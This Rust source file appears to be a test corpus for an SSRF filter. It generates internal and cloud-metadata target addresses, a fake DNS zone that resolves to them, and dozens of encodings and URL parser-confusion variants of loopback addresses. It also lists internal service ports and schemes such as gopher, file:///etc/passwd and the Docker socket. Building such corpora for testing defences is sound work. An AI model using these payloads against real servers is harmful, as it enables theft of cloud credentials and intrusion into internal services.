//! Addresses by which somebody would reach what lies inside: every way of writing one that a reader of addresses is known to take.

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr};

/// Where secrets, services and neighbours are: this machine, private networks, what clouds tell their machines.
pub const TARGETS: [Ipv4Addr; 10] = [
    Ipv4Addr::LOCALHOST,
    Ipv4Addr::new(127, 8, 9, 10),
    Ipv4Addr::UNSPECIFIED,
    Ipv4Addr::new(10, 0, 0, 1),
    Ipv4Addr::new(172, 16, 0, 1),
    Ipv4Addr::new(192, 168, 0, 1),
    Ipv4Addr::new(169, 254, 169, 254),
    Ipv4Addr::new(100, 100, 100, 200),
    Ipv4Addr::new(168, 63, 129, 16),
    Ipv4Addr::new(192, 0, 0, 192),
];

/// A zone of names that lead inside, as its owner would set it up.
pub const ZONE: &str = "attack.example";

/// The names of that zone.
pub fn zone() -> BTreeMap<String, Vec<IpAddr>> {
    let mut zone: BTreeMap<String, Vec<IpAddr>> = BTreeMap::new();
    for (at, target) in TARGETS.iter().enumerate() {
        let mapped = format!("64:ff9b::{target}");
        zone.insert(format!("four{at}.{ZONE}"), vec![IpAddr::V4(*target)]);
        zone.insert(format!("mixed{at}.{ZONE}"), vec![Ipv4Addr::new(1, 1, 1, 1).into(), IpAddr::V4(*target)]);
        zone.insert(format!("translated{at}.{ZONE}"), vec![read(&mapped)]);
    }
    for (name, address) in [
        ("six", "::1"),
        ("unique", "fd12:3456:789a::1"),
        ("link", "fe80::1"),
        ("aws", "fd00:ec2::254"),
        ("google", "fd20:ce::254"),
        ("sixtofour", "2002:7f00:1::1"),
        ("teredo", "2001:0:4136:e378:8000:63bf:80ff:fffe"),
        ("broadcast", "255.255.255.255"),
        ("multicast", "224.0.0.251"),
    ] {
        zone.insert(format!("{name}.{ZONE}"), vec![read(address)]);
    }
    zone
}

fn read(address: &str) -> IpAddr {
    address.parse().expect("an address")
}

/// All attacks on that port.
pub fn attacks(port: u16) -> Vec<String> {
    let mut hosts: Vec<String> = TARGETS.iter().flat_map(|target| written(*target)).collect();
    hosts.extend(sixes());
    hosts.extend(names());
    hosts.extend(zone().into_keys());
    hosts.extend(zone().into_keys().take(5).map(|name| format!("{name}.")));
    let mut all: Vec<String> = hosts.iter().map(|host| format!("https://{host}:{port}/secret")).collect();
    all.extend(hosts.iter().step_by(7).map(|host| format!("http://{host}:{port}/secret")));
    all.extend(logins(port));
    all.extend(ports());
    all.extend(schemes(port));
    all
}

/// One IPv4 address in the forms that readers of addresses have taken since `inet_aton`, and in IPv6's.
fn written(four: Ipv4Addr) -> Vec<String> {
    let [a, b, c, d] = four.octets();
    let whole = u32::from(four);
    let three = whole & 0xff_ffff;
    let two = whole & 0xffff;
    let (high, low) = (whole >> 16, two);
    let (not_high, not_low) = (!whole >> 16 & 0xffff, !whole & 0xffff);
    let wide: String = four.to_string().chars().map(|one| if one == '.' { '.' } else { fullwidth(one) }).collect();
    let encoded = four.to_string().bytes().map(|byte| format!("%{byte:02x}")).collect::<Vec<_>>().concat();
    vec![
        format!("{a}.{b}.{c}.{d}"),
        format!("{a}.{b}.{c}.{d}."),
        format!("{whole}"),
        format!("{whole:#x}"),
        format!("{whole:#X}").replace("0X", "0x"),
        format!("0{whole:o}"),
        format!("{a}.{three}"),
        format!("{a}.{b}.{two}"),
        format!("{a:#x}.{b:#x}.{c:#x}.{d:#x}"),
        format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}"),
        format!("000{a:o}.00{b:o}.0000{c:o}.0{d:o}"),
        format!("{a:#x}.{three:#x}"),
        format!("0{a:o}.{b}.{two:#x}"),
        wide.clone(),
        wide.replace('.', "。"),
        four.to_string().replace('.', "．"),
        four.to_string().replace('.', "｡"),
        encoded,
        format!("[::ffff:{four}]"),
        format!("[::ffff:{high:x}:{low:x}]"),
        format!("[0:0:0:0:0:ffff:{high:04x}:{low:04x}]"),
        format!("[::{four}]"),
        format!("[::ffff:0:{four}]"),
        format!("[64:ff9b::{four}]"),
        format!("[64:ff9b:1::{four}]"),
        format!("[2002:{high:x}:{low:x}::1]"),
        format!("[2001:0:4136:e378:8000:63bf:{not_high:x}:{not_low:x}]"),
        format!("[2606:4700::5efe:{high:x}:{low:x}]"),
        format!("[2606:4700::200:5efe:{high:x}:{low:x}]"),
    ]
}

fn fullwidth(digit: char) -> char {
    char::from_u32(u32::from(digit) - u32::from('0') + 0xff10).expect("a digit")
}

fn sixes() -> Vec<String> {
    [
        "[::1]",
        "[::]",
        "[0:0:0:0:0:0:0:1]",
        "[0000:0000:0000:0000:0000:0000:0000:0001]",
        "[::0001]",
        "[fe80::1]",
        "[fe80::1%25lo]",
        "[fe80::1%25eth0]",
        "[fe80::1%lo]",
        "[::1%25lo]",
        "[::1%1]",
        "[fe80::a9fe:a9fe]",
        "[fe80::a9fe:a9fe%252]",
        "[fc00::1]",
        "[fd12:3456:789a::1]",
        "[fd00:ec2::254]",
        "[FD00:EC2::254]",
        "[fd00:ec2::23]",
        "[fd20:ce::254]",
        "[fd00:42::42]",
        "[fec0::1]",
        "[ff02::1]",
        "[ff05::2]",
        "[2001:db8::1]",
        "[3fff::1]",
        "[2001:10::1]",
        "[100::1]",
        "[5f00::1]",
        "::1",
        "0::1",
    ]
    .map(str::to_owned)
    .to_vec()
}

fn names() -> Vec<String> {
    [
        "localhost",
        "LOCALHOST",
        "LocalHost",
        "localhost.",
        "localhost..",
        ".localhost",
        "a.localhost",
        "a.b.localhost.",
        "localhost.localdomain",
        "localhost6",
        "ip6-localhost",
        "ip6-loopback",
        "loopback",
        "lo%63alhost",
        "%6c%6f%63%61%6c%68%6f%73%74",
        "ｌｏｃａｌｈｏｓｔ",
        "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
        "local\u{ad}host",
        "loc\u{200b}alhost",
        "localhost%00.example.org",
        "localhost\\.example.org",
        "localhost%2eexample%2eorg@localhost",
        "printer.local",
        "printer。local",
        "metadata",
        "metadata.google.internal",
        "METADATA.google.internal.",
        "metadata。google。internal",
        "instance-data",
        "instance-data.ec2.internal",
        "intranet",
        "db.intranet",
        "router.home.arpa",
        "host.docker.internal",
        "kubernetes",
        "kubernetes.default.svc.cluster.local",
        "vault.service.consul.internal",
        "abcdefghijklmnop.onion",
        "something.alt",
        "a..example.org",
        "127.0.0.1.",
        "127.0.0.1..",
        "0",
        "0x0",
        "0.",
        "00000000",
        "1",
        "127.1",
        "127.0.1",
        "127.00.0.001",
        "0x7f000001.",
        "017700000001",
        "127.0.0.0x1",
        "①②⑦.⓪.⓪.①",
        "１２７。１",
        "٣.٣.٣.٣",
        "4294967296",
        "256.256.256.256",
        "127.0.0.1%20",
        "127.0.0.1%09",
        "127.0.0.1%0d%0a",
        "",
        " ",
        "%",
        "-",
    ]
    .map(str::to_owned)
    .to_vec()
}

/// What stands before an `@`, and what some readers take for it.
fn logins(port: u16) -> Vec<String> {
    [
        format!("https://example.org@127.0.0.1:{port}/"),
        format!("https://example.org:443@127.0.0.1:{port}/"),
        format!("https://example.org%40127.0.0.1:{port}/"),
        format!("https://127.0.0.1:{port}@example.org/"),
        format!("https://user@127.0.0.1:{port}/"),
        format!("https://user:password@127.0.0.1:{port}/"),
        format!("https://@127.0.0.1:{port}/"),
        format!("https://:@127.0.0.1:{port}/"),
        format!("https://a@b@127.0.0.1:{port}/"),
        format!("https://127.0.0.1:{port}\\@example.org/"),
        format!("https://example.org\\@127.0.0.1:{port}/"),
        format!("https:\\\\127.0.0.1:{port}\\secret"),
        format!("https:/127.0.0.1:{port}/"),
        format!("https:127.0.0.1:{port}/"),
        format!("https:////127.0.0.1:{port}/"),
        format!("https://\t127.0.0.1:{port}/"),
        format!("https://127.0.0.1\n:{port}/"),
        format!("\u{1}https://127.0.0.1:{port}/"),
        format!(" https://127.0.0.1:{port}/ "),
        format!("https://127.0.0.1:{port}#@example.org/"),
        format!("https://127.0.0.1:{port}?@example.org/"),
        format!("https://127.0.0.1:{port};@example.org/"),
        format!("https://127.0.0.1:{port}:443/"),
        format!("https://127.0.0.1:0{port}/"),
        format!("https://127.0.0.1:+{port}/"),
        format!("https://127.0.0.1:{}/", u32::from(port) + 65536),
        format!("//127.0.0.1:{port}/"),
        format!("127.0.0.1:{port}"),
        format!("HTTPS://127.0.0.1:{port}/"),
        format!("hTTps://[::1]:{port}/"),
    ]
    .to_vec()
}

/// Public hosts at the ports of servers that take lines of text or hold data.
fn ports() -> Vec<String> {
    [
        0, 1, 7, 9, 19, 20, 21, 22, 23, 25, 53, 69, 79, 110, 111, 123, 135, 139, 143, 161, 179, 389, 445, 465, 514,
        587, 636, 873, 993, 995, 1433, 1521, 2049, 2375, 2376, 2379, 3306, 3389, 4222, 5060, 5432, 5672, 5900, 5984,
        6000, 6379, 6443, 6667, 8086, 8500, 9042, 9092, 9200, 10250, 11211, 15672, 27017, 50000,
    ]
    .map(|port| format!("https://1.1.1.1:{port}/"))
    .to_vec()
}

/// Other schemes than https, to this machine and to public hosts.
fn schemes(port: u16) -> Vec<String> {
    let mut all: Vec<String> =
        ["http", "ftp", "ws", "wss", "gopher", "dict", "ldap", "tftp", "sftp", "smb", "jar:http", "socks5", "redis"]
            .iter()
            .map(|scheme| format!("{scheme}://127.0.0.1:{port}/"))
            .collect();
    all.extend(
        [
            "file:///etc/passwd",
            "file://127.0.0.1/etc/passwd",
            "data:text/plain,secret",
            "javascript:0",
            "blob:https://example.org/1",
            "about:blank",
            "unix:/run/docker.sock",
            "http+unix://%2Frun%2Fdocker.sock/",
            "http://1.1.1.1/",
            "http://example.org/",
            "mailto:a@example.org",
            "",
            "/",
            "?",
        ]
        .map(str::to_owned),
    );
    all
}
